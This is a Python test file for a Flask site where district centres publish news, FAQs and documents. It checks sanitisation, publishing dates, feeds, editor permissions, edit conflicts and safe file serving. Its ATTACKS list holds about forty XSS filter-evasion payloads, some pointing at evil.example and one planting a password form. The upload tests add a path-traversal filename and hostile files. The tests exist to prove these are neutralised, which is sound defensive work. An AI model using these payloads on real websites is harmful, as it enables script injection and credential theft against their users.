"""Pages of centres: nothing in Markdown can harm, days and drafts are kept, editors do not overwrite each other."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from pages.checking import CheckingClient, Page, checking_client
from pages.conftest import TODAY
from pages.sending import hidden
from pages.working import browser, hire

from navigator.data import ContentPage, JournalLine, Municipality, PageFile
from navigator.services.content.rendering import excerpt, render

HOME, ELSEWHERE = "egorlykskiy-rayon", "aleksandrovo-zavodskiy-rayon"
NEW = {
    "kind": "news",
    "place": HOME,
    "title": "Каникулы в кружках",
    "body": "Первый абзац.\n\n## Когда\n\n- утром\n- днём",
    "published_on": "",
    "position": "",
    "version": "0",
}
#: In the manner of OWASP's list of ways around filters.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import'https://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<<script>alert(1);//<</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "## <img src=x onerror=alert(1)>\n\nответ <script>alert(1)</script>",
)
TAGS = set("p h2 h3 ul ol li a strong em s blockquote table thead tbody tr th td hr br code pre".split())  # noqa: SIM905  # as the rule writes it


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_markdown_can_run(attack: str) -> None:
    for questions in (False, True):
        made = render(attack, questions=questions)
        for html in (made.html, *(answer for _, answer in made.questions)):
            for one in Page(html, is_fragment=True).tree.iter():
                if not isinstance(one.tag, str) or "}" not in one.tag:
                    continue
                assert one.tag.split("}")[1] in TAGS, html
                assert set(one.attrib) <= ({"href", "rel"} if one.tag.endswith("}a") else set()), html
                href = one.get("href", "https:")
                assert href.startswith(("http:", "https:", "mailto:", "tel:")) or href[:2].strip("/\\") != "", html


@pytest.fixture
def centre(forms_app: Flask) -> CheckingClient:
    """A browser of the centre of one district."""
    secret = hire(forms_app, "moc@example.org", "municipal_center", municipality=HOME)
    return browser(forms_app, "moc@example.org", secret)


def save(client: CheckingClient, event: str = "publish", path: str = "/staff/pages/new/", **values: str) -> Any:
    return client.post(path, data={**NEW, "event": event, **values})


def made(answer: Any) -> ContentPage:
    assert answer.status_code == 303
    found: ContentPage = ContentPage.get_by_id(int(answer.headers["Location"].strip("/").split("/")[-1]))
    return found


# ---------------------------------------------------------------- what everybody reads


def test_an_attack_in_a_published_page_is_words(forms_app: Flask, centre: CheckingClient) -> None:
    page = made(save(centre, kind="faq", body="\n\n".join(ATTACKS), title="<b>Опасно</b> & нет"))
    public = checking_client(forms_app)
    public.typed = True
    shown = public.look(f"/pages/{page.slug}/")
    assert shown.all("h1")[0].text == "<b>Опасно</b> & нет"
    assert shown.all("script") == shown.all("iframe") == shown.all("img") == shown.all("form") == []
    centre.typed = True
    assert save(centre, "preview", body="\n\n".join(ATTACKS)).status_code == 200
    assert centre.page.all("section", id="preview")[0].findall(".//{*}script") == []


def test_news_are_paged_and_by_place(forms_app: Flask, centre: CheckingClient) -> None:
    public = checking_client(forms_app)
    before = len(public.look("/news/").with_attribute("data-page"))
    for day in range(1, 13):
        made(save(centre, title=f"Новость {day}", published_on=f"{day}.11.2026"))
    assert len(public.look("/news/").with_attribute("data-page")) == 10
    second = public.look("/news/page/2/")
    assert len(second.with_attribute("data-page")) == before + 2
    mine = public.look(f"/municipalities/{HOME}/news/")
    titles = [public.page.words(one) for one in mine.all("h2")]
    assert titles.index("Новость 12") < titles.index("Новость 11")
    assert "Новость 12" not in public.look(f"/municipalities/{ELSEWHERE}/news/").words()
    for wrong in ("/news/page/9/", "/news/nothing/", "/pages/nothing/", "/municipalities/atlantis/news/"):
        assert public.get(wrong).status_code == 404, wrong


def test_a_page_appears_on_its_day_and_not_before(forms_app: Flask, centre: CheckingClient) -> None:
    public, house = checking_client(forms_app), forms_app.extensions["navigator"]
    page = made(save(centre, published_on=(TODAY + timedelta(days=2)).strftime("%d.%m.%Y")))
    path = f"/news/{page.slug}/"
    assert "Появится 25\u00a0ноября 2026".replace(" ", "\u00a0") in centre.look(
        f"/staff/pages/{page.id}/"
    ).text.replace(" ", "\u00a0")
    assert public.get(path).status_code == 404
    for listing in ("/news/", f"/municipalities/{HOME}/", "/feed.atom", "/sitemap.xml"):
        assert page.slug not in public.get(listing).text
    house.clock = lambda: TODAY + timedelta(days=2)
    assert "Первый абзац" in public.look(path).words()
    for listing in ("/news/", f"/municipalities/{HOME}/", "/feed.atom", "/sitemap.xml"):
        assert page.slug in public.get(listing).text


def test_drafts_and_archived_pages_are_not_public(forms_app: Flask, centre: CheckingClient) -> None:
    public = checking_client(forms_app)
    page = made(save(centre, "save", kind="instruction", title="Как записаться"))
    assert (page.state, public.get(f"/pages/{page.slug}/").status_code) == ("draft", 404)
    for event, state, status in (("publish", "published", 200), ("archive", "archived", 404), ("draft", "draft", 404)):
        form = hidden(centre.look(f"/staff/pages/{page.id}/"))
        body = {"kind": "instruction", "title": "Как записаться", "version": form["version"]}
        made(save(centre, event, f"/staff/pages/{page.id}/", **body))
        assert ContentPage.get_by_id(page.id).state == state
        assert public.get(f"/pages/{page.slug}/").status_code == status
    assert public.get(f"/news/{page.slug}/").status_code == 404
    assert [line.action for line in JournalLine.select() if line.subject == f"page:{page.id}"] == [
        *("page_save", "page_publish", "page_archive", "page_draft")
    ]


def test_places_show_what_they_have_and_nothing_where_they_have_none(forms_app: Flask) -> None:
    public = checking_client(forms_app)
    words = public.look(f"/municipalities/{HOME}/").words()
    assert all(one in words for one in ("Новости", "Вопросы и ответы", "Полезные контакты", "Документы"))
    assert "Инструкции" not in words
    assert "Новости районов" in public.look("/").words()
    ContentPage.delete().execute()
    for path in (f"/municipalities/{HOME}/", "/"):
        words = public.look(path).words()
        assert not any(one in words for one in ("Новости", "Вопросы и ответы", "Полезные контакты", "Документы")), path


def test_questions_open_and_links_lead(forms_app: Flask) -> None:
    public = checking_client(forms_app)
    page = public.look("/pages/voprosy-roditeley-o-socialnom-sertifikate/")
    assert len(page.all("details")) == 6
    assert page.words(page.all("summary")[0]) == "Кому дают социальный сертификат?"
    assert page.all("a", href="/enrollments/check/") != []
    assert public.get("/news/voprosy-roditeley-o-socialnom-sertifikate/").status_code == 301
    assert render("[в каталог](/programs/)", "https://live.example").html.count("https://live.example/programs/") == 1
    assert render("[в каталог](/programs/)", None).html.strip() == "<p>в каталог</p>"
    assert excerpt("# Заголовок\n\nСлово **важное**, [ссылка](https://a.example)\nи строка", 40) == (
        "Заголовок Слово важное, ссылка и строка"
    )


# ---------------------------------------------------------------- machines


def parsed(text: bytes) -> ET.Element:
    return ET.fromstring(text)  # noqa: S314  # our own answer


ATOM = "{http://www.w3.org/2005/Atom}"


def test_the_feed_keeps_the_rules_of_atom(forms_app: Flask, centre: CheckingClient) -> None:
    made(save(centre, title="Амперсанд & <тег>", body="Первая\u0007 строка & <b>вторая</b>"))
    public = checking_client(forms_app)
    for path in ("/feed.atom", f"/municipalities/{HOME}/feed.atom"):
        answer = public.get(path)
        assert answer.mimetype == "application/atom+xml"
        feed = parsed(answer.data)
        assert feed.tag == f"{ATOM}feed"
        for one in (feed, *feed.findall(f"{ATOM}entry")):
            for name in ("id", "title", "updated"):
                assert len(one.findall(ATOM + name)) == 1, name
            datetime.strptime(one.findtext(f"{ATOM}updated") or "", "%Y-%m-%dT%H:%M:%SZ")
            links = {link.get("rel"): link.get("href") for link in one.findall(f"{ATOM}link")}
            assert (links["alternate"] or "").startswith("http://localhost/")
        assert links.get("self", f"http://localhost{path}") == f"http://localhost{path}"
        assert feed.find(f"{ATOM}author/{ATOM}name") is not None
        ids = [one.findtext(f"{ATOM}id") for one in feed.findall(f"{ATOM}entry")]
        assert len(set(ids)) == len(ids) > 1
        updated = [one.findtext(f"{ATOM}updated") or "" for one in feed.findall(f"{ATOM}entry")]
        assert feed.findtext(f"{ATOM}updated") == max(updated)
        for address in ids:
            assert public.get((address or "").removeprefix("http://localhost")).status_code == 200
    assert "Амперсанд & <тег>" in [one.text for one in feed.iter(f"{ATOM}title")]
    ContentPage.delete().execute()
    assert parsed(public.get("/feed.atom").data).findtext(f"{ATOM}updated") == f"{TODAY}T00:00:00Z"


def test_the_sitemap_leads_to_pages_that_are_there(forms_app: Flask) -> None:
    public = checking_client(forms_app)
    assert "Sitemap: http://localhost/sitemap.xml" in public.get("/robots.txt").text
    root = parsed(public.get("/sitemap.xml").data)
    space = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
    addresses = [one.text or "" for one in root.iter(f"{space}loc")]
    assert len(addresses) == len(set(addresses)) > 192 + 10
    assert {one.text for one in root.iter(f"{space}lastmod")} <= {str(TODAY - timedelta(days=at)) for at in range(90)}
    for address in addresses[::20]:
        assert public.get(address.removeprefix("http://localhost")).status_code == 200, address


# ---------------------------------------------------------------- editors


def test_the_desk_of_pages_for_every_role(forms_app: Flask, centre: CheckingClient) -> None:
    mine = made(save(centre)).id
    region = ContentPage.create(kind="faq", slug="region", title="Для всех", body="## А?\n\nБ", state="draft").id
    people = (
        ("organization", {"organization": "1"}, ()),
        ("municipal_center", {"municipality": ELSEWHERE}, ()),
        ("regional_center", {}, (mine, region)),
        ("observer", {}, ()),
    )
    for at, (role, place, may) in enumerate(people):
        email = f"p{at}@example.org"
        client = browser(forms_app, email, hire(forms_app, email, role, **place))
        listed = 200 if role[-6:] == "center" else 404
        assert (client.get("/staff/pages/").status_code, client.get("/staff/pages/new/").status_code) == (listed,) * 2
        assert client.post("/staff/pages/", data={"event": "nonsense"}).status_code == 404
        for number in (mine, region):
            status = 200 if number in may else 404
            assert client.get(f"/staff/pages/{number}/").status_code == status, (role, number)
            saved = client.post(f"/staff/pages/{number}/", data={"event": "save"}).status_code
            assert saved == (422 if number in may else 404), (role, number)
            sent = client.post(f"/staff/pages/{number}/files/", data={"event": "add"}).status_code
            assert sent == (422 if number in may else 404), (role, number)
        assert ("Страницы" in client.look("/staff/").words()) == (role[-6:] == "center")
    assert centre.get(f"/staff/pages/{region}/").status_code == 404
    assert save(centre, place=ELSEWHERE).status_code == 422
    assert save(centre, place="").status_code == 404
    stranger = checking_client(forms_app)
    for path in ("/staff/pages/", f"/staff/pages/{mine}/", f"/staff/pages/{mine}/files/"):
        assert stranger.post(path).status_code == 401
    assert ContentPage.get_by_id(mine).version == 1


def test_two_editors_are_told_and_nothing_typed_is_lost(forms_app: Flask, centre: CheckingClient) -> None:
    page = made(save(centre))
    other = browser(forms_app, "rmc@example.org", hire(forms_app, "rmc@example.org", "regional_center"))
    path = f"/staff/pages/{page.id}/"
    form = hidden(centre.look(path))
    assert (
        save(other, "save", path, body="Текст второго", version=hidden(other.look(path))["version"]).status_code == 303
    )
    assert save(centre, "save", path, body="Текст первого", version=form["version"]).status_code == 409
    assert centre.page.all("textarea", id="body")[0].text.strip() == "Текст первого"
    assert centre.page.words(centre.page.all("pre")[0]) == "Текст второго"
    assert ContentPage.get_by_id(page.id).body == "Текст второго"
    again = hidden(centre.page)["version"]
    assert save(centre, "save", path, body="Текст первого", version=again).status_code == 303
    assert ContentPage.get_by_id(page.id).body == "Текст первого"


@pytest.mark.parametrize(
    "wrong",
    [
        {"title": ""},
        {"title": "а" * 201},
        {"body": ""},
        {"body": "а" * 20_001},
        {"published_on": "вчера"},
        {"position": "-1"},
        {"kind": "advert"},
        {"place": "atlantis"},
        {"event": "explode"},
    ],
)
def test_a_wrong_form_is_shown_again_with_what_was_typed(centre: CheckingClient, wrong: dict[str, str]) -> None:
    before = ContentPage.select().count()
    assert save(centre, **{"body": "Мой текст\nв две строки", **wrong}).status_code == 422
    assert centre.page.all("div", id="error-summary") != []
    if "body" not in wrong:
        assert centre.page.all("textarea", id="body")[0].text.strip() == "Мой текст\nв две строки"
    assert ContentPage.select().count() == before


def test_a_preview_stores_nothing_and_addresses_stay(centre: CheckingClient) -> None:
    before = ContentPage.select().count()
    assert save(centre, "preview").status_code == 200
    assert "утром" in centre.page.words(centre.page.all("section", id="preview")[0])
    assert ContentPage.select().count() == before
    first, second = made(save(centre)), made(save(centre))
    assert (first.slug, second.slug) == ("kanikuly-v-kruzhkah", "kanikuly-v-kruzhkah-2")
    assert first.published_on == TODAY
    made(save(centre, "save", f"/staff/pages/{first.id}/", title="Иначе", version="1"))
    assert ContentPage.get_by_id(first.id).slug == "kanikuly-v-kruzhkah"


# ---------------------------------------------------------------- files


def archive(*names: str) -> bytes:
    made_of = io.BytesIO()
    with zipfile.ZipFile(made_of, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name in names:
            zipped.writestr(name, "<x/>")
    return made_of.getvalue()


def upload(client: CheckingClient, page: int, name: str, content: bytes) -> int:
    """Send a file as a browser does; the client of werkzeug leaves its own large files open."""
    file = f'Content-Disposition: form-data; name="file"; filename="{name}"'
    event = 'Content-Disposition: form-data; name="event"'
    body = f"--cut\r\n{event}\r\n\r\nadd\r\n--cut\r\n{file}\r\n\r\n".encode() + content + b"\r\n--cut--\r\n"
    path = f"/staff/pages/{page}/files/"
    return int(client.post(path, data=body, content_type="multipart/form-data; boundary=cut").status_code)


PDF, PNG = b"%PDF-1.4\n%%EOF", b"\x89PNG\r\n\x1a\n" + b"0" * 500


def test_files_are_known_by_their_content_and_served_safely(forms_app: Flask, centre: CheckingClient) -> None:
    page, public = made(save(centre, kind="document", title="Порядок")), checking_client(forms_app)
    good = {
        "Порядок приёма.doc": (PDF, "poryadok-priema.pdf", "application/pdf", "attachment"),
        "../../etc/схема.exe": (PNG, "shema.png", "image/png", "inline"),
        "a.docx": (archive("[Content_Types].xml", "word/document.xml"), "a.docx", None, "attachment"),
        "б;л <а>.xlsx": (archive("[Content_Types].xml", "xl/workbook.xml"), "b-l-a.xlsx", None, "attachment"),
        "фото.jpg": (b"\xff\xd8\xff\xe0" + b"1" * 99, "foto.jpg", "image/jpeg", "inline"),
    }
    for typed, (content, name, media, how) in good.items():
        assert upload(centre, page.id, typed, content) == 303, typed
        row = PageFile.select().order_by(PageFile.id.desc()).first()
        answer = public.get(f"/files/{row.id}/{name}")
        assert (answer.status_code, answer.data) == (200, content), typed
        assert media is None or answer.mimetype == media
        assert answer.headers["Content-Disposition"] == f'{how}; filename="{name}"'
        assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        again = public.get(f"/files/{row.id}/{name}", headers={"If-None-Match": answer.headers["ETag"]})
        assert (again.status_code, again.data) == (304, b"")
        assert public.get(f"/files/{row.id}/other.pdf").status_code == 404
    linked = [one.get("href") for one in public.look(f"/pages/{page.slug}/").all("a")]
    assert len([one for one in linked if one.startswith("/files/")]) == len(good)
    bad = {
        "page.pdf": b"<html><script>alert(1)</script>",
        "picture.png": b"GIF89a",
        "macros.docx": archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
        "archive.docx": archive("readme.txt"),
        "broken.xlsx": b"PK\x03\x04 broken",
        "svg.png": b"<svg onload=alert(1)>",
        "empty.pdf": b"",
        "large.pdf": PDF + b"0" * 10_000_000,
    }
    for typed, content in bad.items():
        assert upload(centre, page.id, typed, content) in {422}, typed
    assert PageFile.select().count() == len(good)
    assert upload(centre, page.id, "huge.pdf", PDF + b"0" * 11_000_000) == 413
    first = PageFile.get()
    assert (
        centre.post(f"/staff/pages/{page.id}/files/", data={"event": "remove", "file": str(first.id)}).status_code
        == 303
    )
    assert public.get(f"/files/{first.id}/{first.name}").status_code == 404
    ContentPage.update(state="draft").where(ContentPage.id == page.id).execute()
    left = PageFile.get()
    assert public.get(f"/files/{left.id}/{left.name}").status_code == 404


def test_a_file_of_another_page_is_not_removed(forms_app: Flask, centre: CheckingClient) -> None:
    mine = made(save(centre))
    theirs = ContentPage.create(kind="news", slug="x", title="x", municipality=Municipality.get(slug=ELSEWHERE))
    row = PageFile.create(page=theirs, name="a.pdf", title="a", kind="pdf", size=1, digest="0", content=b"1")
    data = {"event": "remove", "file": str(row.id)}
    assert centre.post(f"/staff/pages/{mine.id}/files/", data=data).status_code == 303
    assert centre.post(f"/staff/pages/{theirs.id}/files/", data=data).status_code == 404
    assert PageFile.select().count() == 1


def test_demo_pages_hold_invented_contacts_only() -> None:
    import re

    folder = Path(__file__).parents[2] / "site" / "data" / "demo" / "content"
    text = "\n".join(path.read_text() for path in folder.glob("*.toml"))
    assert all(re.search(r"00-\d\d$", one) for one in re.findall(r"\+7[\d\s-]+\d", text))
    assert all(one.endswith(".example") for one in re.findall(r"@([\w.-]+\w)", text))
    assert "http" not in text
